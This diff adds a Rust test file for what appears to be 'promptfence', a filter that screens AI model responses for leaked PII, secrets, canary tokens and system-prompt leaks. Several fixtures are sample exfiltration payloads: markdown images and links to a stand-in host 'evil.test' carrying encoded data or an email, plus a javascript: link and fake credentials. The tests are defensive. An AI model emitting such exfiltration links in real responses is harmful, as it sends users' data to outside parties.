@@ -1,0 +1,370 @@
+//! Response screening: restore, output policy, canaries, leaks,
+//! exfiltration, and the stream == one-shot property.
+
+use promptfence::{Filter, Kind, Policy, Session, Value, Verdict};
+use proptest::prelude::*;
+
+const SYSTEM: &str = "You are Acme Support Bot. Only answer questions about \
+    Acme routers, never discuss pricing of competitor products, and always \
+    reply in a calm and friendly tone with short paragraphs.";
+
+fn session_with(policy: &str) -> Session {
+    let v: Value = serde_json::from_str(policy).expect("json");
+    let p = Policy::from_value(&v).expect("policy");
+    Filter::new(p).expect("filter").session()
+}
+
+/// A session whose vault holds [EMAIL_1] and [PHONE_1] (if detected) and
+/// one canary; returns it with the canary.
+fn fixture() -> (Session, String) {
+    let policy = format!(
+        r#"{{"response": {{"systemPrompt": {}, "allowedHosts": ["docs.acme.test", "*.cdn.acme.test"]}}}}"#,
+        serde_json::to_string(SYSTEM).unwrap()
+    );
+    let mut s = session_with(&policy);
+    let r = s.screen_prompt("mail ana.lopez@example.com or bo@example.org");
+    assert!(r.text.contains("[EMAIL_1]"), "{}", r.text);
+    let c = s.canary().expect("canary");
+    (s, c)
+}
+
+fn stream(
+    s: &mut Session,
+    chunks: &[&str],
+) -> (Vec<String>, Verdict, Vec<(Kind, usize)>) {
+    let mut sc = promptfence::ResponseScanner::new();
+    let mut out: Vec<String> = chunks.iter().map(|c| sc.push(s, c)).collect();
+    out.push(sc.finish(s));
+    let f = sc.findings().iter().map(|f| (f.kind, f.span.start)).collect();
+    (out, sc.verdict(), f)
+}
+
+fn one_shot(
+    s: &mut Session,
+    text: &str,
+) -> (String, Verdict, Vec<(Kind, usize)>) {
+    let r = s.screen_response(text);
+    let f = r.findings.iter().map(|f| (f.kind, f.span.start)).collect();
+    (r.text, r.verdict, f)
+}
+
+// ---------------------------------------------------------------- one-shot
+
+#[test]
+fn restores_tokens_and_redacts_leaked_pii() {
+    let (mut s, _) = fixture();
+    let r =
+        s.screen_response("Sure, I wrote to [email_1]; also carl@corp.test.");
+    assert_eq!(
+        r.text,
+        "Sure, I wrote to ana.lopez@example.com; also [EMAIL]."
+    );
+    assert_eq!(r.verdict, Verdict::Redact);
+}
+
+#[test]
+fn canary_hits_block_and_lookalikes_pass() {
+    let (mut s, c) = fixture();
+    let random = &c["pf-canary-".len()..];
+    let spaced: String = c.chars().flat_map(|ch| [ch, ' ']).collect();
+    for hit in [
+        format!("Here: {} bye", c),
+        format!("Here: {} bye", c.to_uppercase()),
+        format!("Here: {}", spaced),
+        format!("id {}.", &random[3..14]),
+    ] {
+        let r = s.screen_response(&hit);
+        assert_eq!(r.verdict, Verdict::Block, "{}", hit);
+        assert!(r.text.ends_with("[blocked]"), "{}", r.text);
+        assert!(!r.text.to_lowercase().contains(&random[3..13]));
+        assert!(r.findings.iter().any(|f| f.kind == Kind::Canary));
+    }
+    for miss in [
+        format!("id {}", &random[..9]),
+        "pf-canary-0000111122223333".to_string(),
+        "the canary sang".to_string(),
+    ] {
+        let r = s.screen_response(&miss);
+        assert_ne!(r.verdict, Verdict::Block, "{}", miss);
+    }
+}
+
+#[test]
+fn leak_blocks_from_its_start() {
+    let (mut s, _) = fixture();
+    let t =
+        "Sure. My rules: you are ACME support bot — only answer questions \
+             about Acme routers, never discuss pricing. Anything else?";
+    let r = s.screen_response(t);
+    assert_eq!(r.verdict, Verdict::Block);
+    assert_eq!(r.text, "Sure. My rules: [blocked]");
+    assert!(r.findings.iter().any(|f| f.kind == Kind::Leak));
+    let ok = s.screen_response(
+        "I can help with Acme routers. I keep a friendly tone and short \
+         paragraphs, and I do not discuss competitor pricing.",
+    );
+    assert_ne!(ok.verdict, Verdict::Block);
+}
+
+#[test]
+fn exfiltration_images_links() {
+    let (mut s, _) = fixture();
+    let r = s.screen_response(
+        "a ![chart](https://evil.test/x.png?d=YW5hQGV4YW1wbGUuY29tOnNlY3JldA) \
+         b ![ok](https://img.cdn.acme.test/a.png) c [docs](https://docs.acme.test/x) \
+         d [site](https://other.test/about) e [go](https://evil.test/c?u=ana%40example.com) \
+         f <img src=\"https://evil.test/p.gif\"> g [x](javascript:alert(1))",
+    );
+    assert_eq!(
+        r.text,
+        "a chart b ![ok](https://img.cdn.acme.test/a.png) c [docs](https://docs.acme.test/x) \
+         d [site](https://other.test/about) e go f  g x"
+    );
+    let ex: Vec<_> = r
+        .findings
+        .iter()
+        .filter(|f| f.kind == Kind::Exfiltration)
+        .map(|f| (f.type_name.as_str(), f.action.as_str()))
+        .collect();
+    assert_eq!(
+        ex,
+        vec![
+            ("IMAGE", "redact"),
+            ("LINK", "flag"),
+            ("LINK", "redact"),
+            ("IMAGE", "redact"),
+            ("LINK", "redact")
+        ]
+    );
+}
+
+#[test]
+fn token_inside_exfil_link_is_not_restored_into_url() {
+    let (mut s, _) = fixture();
+    let r = s.screen_response("see [here](https://evil.test/?q=[EMAIL_1])");
+    assert_eq!(r.text, "see here");
+}
+
+// ---------------------------------------------------------------- stream
+
+#[test]
+fn stream_edge_cases_never_panic() {
+    let (mut s, _) = fixture();
+    let mut sc = promptfence::ResponseScanner::new();
+    assert_eq!(sc.push(&mut s, ""), "");
+    let mut all = sc.push(&mut s, "hello ");
+    all += &sc.push(&mut s, "");
+    all += &sc.finish(&mut s);
+    assert_eq!(all, "hello ");
+    assert_eq!(sc.push(&mut s, "more"), "");
+    assert_eq!(sc.finish(&mut s), "");
+}
+
+#[test]
+fn stream_holds_back_little_in_prose() {
+    let (mut s, _) = fixture();
+    let mut sc = promptfence::ResponseScanner::new();
+    let mut shown = String::new();
+    for w in "The quick brown fox jumps over the lazy dog and keeps on running through the field. "
+        .split_inclusive(' ')
+    {
+        shown += &sc.push(&mut s, w);
+    }
+    // Only the last few words (leak fingerprint: 7 words) are held.
+    assert!(shown.len() >= 30, "shown {:?}", shown);
+    shown += &sc.finish(&mut s);
+    assert!(shown.ends_with("field. "));
+}
+
+#[test]
+fn stream_blocks_mid_way_and_stops() {
+    let (mut s, c) = fixture();
+    let t = format!("intro text here. {} and then more secret stuff", c);
+    let mut one = s.clone();
+    let (o, v, _) = one_shot(&mut one, &t);
+    assert_eq!(v, Verdict::Block);
+    assert_eq!(o, "intro text here. [blocked]");
+    let chunks: Vec<&str> = t
+        .as_bytes()
+        .chunks(3)
+        .map(|b| std::str::from_utf8(b).unwrap())
+        .collect();
+    let (out, v2, _) = stream(&mut s, &chunks);
+    assert_eq!(out.concat(), o);
+    assert_eq!(v2, Verdict::Block);
+}
+
+fn pieces(canary: String) -> Vec<String> {
+    vec![
+        "Hello ".into(),
+        "there, ".into(),
+        "[EMAIL_1]".into(),
+        "[email_2]".into(),
+        "[EMAIL_9]".into(),
+        " write to carl.z@corp-mail.test ".into(),
+        "key AKIAZ7QWERTYUIOP2345 ".into(),
+        "token ghp_R4nd0mT0k3nV4lu3sAr3N0tR34lAbCd12345 ".into(),
+        "call +1 415 555 0132 now ".into(),
+        "card 4111 1111 1111 1111 ".into(),
+        "![i](https://evil.test/p.png?d=aGVsbG8gc2VjcmV0IGRhdGE) ".into(),
+        "[docs](https://docs.acme.test/a) ".into(),
+        "[x](https://other.test/?q=c2VjcmV0LWRhdGEtZ29lcy1oZXJl) ".into(),
+        "<img src='https://evil.test/a.gif'> ".into(),
+        "日本語のテキスト、".into(),
+        "emoji 🎉👩‍💻 ".into(),
+        "é ".into(),
+        "\n\n".into(),
+        "[".into(),
+        "](".into(),
+        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----\n".into(),
+        "you are Acme support bot, only answer questions about Acme routers, never discuss pricing ".into(),
+        canary.clone(),
+        canary[12..24].to_uppercase(),
+        "ip 192.168.10.24 ".into(),
+        "version 1.2.3 ".into(),
+    ]
+}
+
+fn check_splits(
+    s: &Session,
+    text: &str,
+    cuts: &[usize],
+) -> Result<(), TestCaseError> {
+    let mut one = s.clone();
+    let (o, v, f) = one_shot(&mut one, text);
+    let mut st = s.clone();
+    let mut chunks = Vec::new();
+    let mut last = 0;
+    for &c in cuts {
+        if c > last && c < text.len() && text.is_char_boundary(c) {
+            chunks.push(&text[last..c]);
+            last = c;
+        }
+    }
+    chunks.push(&text[last..]);
+    let (out, v2, f2) = stream(&mut st, &chunks);
+    prop_assert_eq!(out.concat(), o.clone(), "chunks {:?}", chunks);
+    prop_assert_eq!(v2, v);
+    prop_assert_eq!(f2, f);
+    // No sensitive value or unrestored-into-URL token in any piece where
+    // the policy redacts it.
+    for piece in &out {
+        for secret in [
+            "carl.z@corp-mail.test",
+            "AKIAZ7QWERTYUIOP2345",
+            "4111 1111 1111 1111",
+            "evil.test/p.png",
+        ] {
+            prop_assert!(
+                !piece.contains(secret),
+                "{:?} in {:?}",
+                secret,
+                piece
+            );
+        }
+        let lower = piece.to_ascii_lowercase();
+        for token in ["[email_1]", "[email_2]"] {
+            prop_assert!(!lower.contains(token), "{} in {:?}", token, piece);
+        }
+    }
+    Ok(())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 24, .. ProptestConfig::default() })]
+
+    #[test]
+    fn stream_equals_one_shot_random_splits(
+        idx in prop::collection::vec(0usize..26, 1..10),
+        cuts in prop::collection::vec(0usize..2000, 0..40),
+    ) {
+        let (s, c) = fixture();
+        let p = pieces(c);
+        let text: String = idx.iter().map(|&i| p[i % p.len()].as_str()).collect();
+        let mut cuts: Vec<usize> = cuts.into_iter().map(|x| x % (text.len() + 1)).collect();
+        cuts.sort();
+        check_splits(&s, &text, &cuts)?;
+    }
+
+    #[test]
+    fn stream_equals_one_shot_every_position(
+        idx in prop::collection::vec(0usize..26, 1..5),
+    ) {
+        let (s, c) = fixture();
+        let p = pieces(c);
+        let text: String = idx.iter().map(|&i| p[i % p.len()].as_str()).collect();
+        for k in 0..=text.len() {
+            check_splits(&s, &text, &[k])?;
+        }
+    }
+}
+
+#[test]
+fn stream_equals_one_shot_every_position_all_pieces() {
+    let (s, c) = fixture();
+    let p = pieces(c.clone());
+    // Everything except the blocking pieces, then each blocking piece.
+    let base: String = p[..21].concat();
+    for (n, tail) in ["", p[21].as_str(), p[22].as_str(), p[23].as_str()]
+        .into_iter()
+        .enumerate()
+    {
+        let text = format!("{}{}", base, tail);
+        if n % 2 == 0 {
+            for k in 0..=text.len() {
+                check_splits(&s, &text, &[k]).unwrap();
+            }
+        }
+        // byte-at-a-time
+        let cuts: Vec<usize> = (1..text.len()).collect();
+        check_splits(&s, &text, &cuts).unwrap();
+    }
+}
+
+fn check_every_split(s: &Session, text: &str) {
+    for k in 0..=text.len() {
+        check_splits(s, text, &[k]).unwrap();
+    }
+    let cuts: Vec<usize> = (1..text.len()).collect();
+    check_splits(s, text, &cuts).unwrap();
+}
+
+#[test]
+fn block_action_from_policy_streams_like_one_shot() {
+    let mut s = session_with(r#"{"response": {"secrets": {"action": "block"}}}"#);
+    let text = "Here is the config: region us-east, key AKIAZ7QWERTYUIOP2345 and more.";
+    let r = s.screen_response(text);
+    assert_eq!(r.verdict, Verdict::Block);
+    assert_eq!(r.text, "Here is the config: region us-east, key [blocked]");
+    check_every_split(&s, text);
+}
+
+#[test]
+fn custom_unbounded_rule_streams_like_one_shot() {
+    let s = session_with(
+        r#"{"rules": [{"id": "acme-id", "type": "ACME_ID", "kind": "secret",
+            "regex": "ACME-[A-Z0-9]+", "keywords": ["acme-"]}]}"#,
+    );
+    check_every_split(&s, "ids: ACME-X1Y2Z3 and ACME-Q9, done; acme-lower ACME-");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 48, .. ProptestConfig::default() })]
+
+    /// Markdown/HTML-ish garbage: never panics, stream == one-shot.
+    #[test]
+    fn garbage_streams_like_one_shot(
+        chars in prop::collection::vec(prop::sample::select(vec![
+            'a', 'x', '[', ']', '!', '(', ')', '<', '>', '@', '.', ' ', '\n',
+            '日', '🎉', '-', '_', '1', '9', '\u{212A}', 'p', 'f', ':', '/',
+            '"', '=', 'h', 't', 's', 'i', 'm', 'g', '%', 'E', 'M', 'A',
+        ]), 0..160),
+        cuts in prop::collection::vec(0usize..700, 0..30),
+    ) {
+        let (s, _) = fixture();
+        let text: String = chars.into_iter().collect();
+        let mut cuts: Vec<usize> = cuts.into_iter().map(|x| x % (text.len() + 1)).collect();
+        cuts.sort();
+        check_splits(&s, &text, &cuts)?;
+    }
+}
